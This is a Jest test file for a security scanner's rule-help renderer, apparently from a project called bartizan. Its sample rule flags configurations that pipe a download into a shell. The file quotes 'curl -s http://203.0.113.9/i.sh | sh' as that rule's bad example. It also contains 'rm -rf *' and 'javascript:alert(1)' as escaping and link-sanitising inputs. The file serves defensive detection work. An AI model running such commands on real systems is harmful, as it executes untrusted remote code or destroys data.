// What a rule says of itself: complete, in both forms, readable, and harmless when a foreign pack wrote it.

import { expect, test } from '@jest/globals';
import { ruleHelp, ruleHelpUri } from '../../../src/reports/markdown/rule.ts';
import { rule } from '../builders.ts';

test('both forms say the same in the same order', () => {
  const { text, markdown } = ruleHelp(rule());
  const parts = [
    'Server start downloads a script',
    'fetches a script from the network',
    'Whoever answers at that address',
    'curl -s http://203.0.113.9/i.sh | sh',
    'an installed program is started',
    '"command": "mail-server"',
    'Download a pinned release',
    'ignore:',
    '  - { rule: config/download-piped-to-shell, path: "path/to/file", reason: "why it is all right" }',
    'bartizan-ignore: config/download-piped-to-shell -- why it is all right',
    'https://cwe.mitre.org/data/definitions/494.html',
    'OWASP MCP Top 10 2025: MCP04, MCP05',
  ];
  for (const form of [text, markdown]) {
    const places = parts.map((part) => form.indexOf(part));
    expect(places).not.toContain(-1);
    expect(places).toEqual(places.toSorted((left, right) => left - right));
    expect(form.endsWith('\n')).toBe(true);
  }
});

test('wrapped text is one paragraph and code between backticks stays code', () => {
  const { text, markdown } = ruleHelp(rule({ fix: 'Use `a|b` or `x*y`, never\n  `rm -rf *` and *not* that.\n' }));
  expect(markdown).toContain('**Fix.** Use <code>a&#124;b</code> or `x*y`, never `rm -rf *` and \\*not\\* that.');
  expect(text).toContain('Fix: Use `a|b` or `x*y`, never `rm -rf *` and *not* that.');
});

test('what a rule does not have leaves no empty heading', () => {
  const { text, markdown } = ruleHelp(rule({ bad: [], good: [], references: [], frameworks: {} }));
  for (const form of [text, markdown]) expect(form).not.toMatch(/Bad|Good|References|Classes|undefined/);
});

test('an example cannot close its fence and is cut when it is long', () => {
  const example = { path: 'a`b.md', text: `${'```\n</details>\n'.repeat(60)}${'x'.repeat(9000)}` };
  const { markdown } = ruleHelp(rule({ bad: [example], good: [] }));
  expect(markdown).toContain('**Bad**, in ``a`b.md``:\n\n````\n```\n</details>\n');
  expect(markdown).toContain('\n… 81 more lines\n````\n');
});

test('only plain https addresses become links', () => {
  const references = [
    'https://example.org/a?b=c#d',
    'https://example.org/>x',
    'javascript:alert(1)',
    'http://example.org',
  ];
  const { markdown } = ruleHelp(rule({ references }));
  expect(markdown).toContain('- <https://example.org/a?b=c#d>\n');
  expect(markdown.match(/<https?:/g)).toHaveLength(1);
  expect(markdown).not.toContain('http://example.org');
});

test.each([
  ['config/download-piped-to-shell', 'config.md#download-piped-to-shell'],
  ['My Pack/../x', 'my-pack.md#-x'],
  ['bare', 'rules.md#bare'],
])('%s is described at %s', (id, page) => {
  expect(ruleHelpUri(id)).toBe(`https://github.com/bartizan/bartizan/blob/main/docs/rules/${page}`);
});
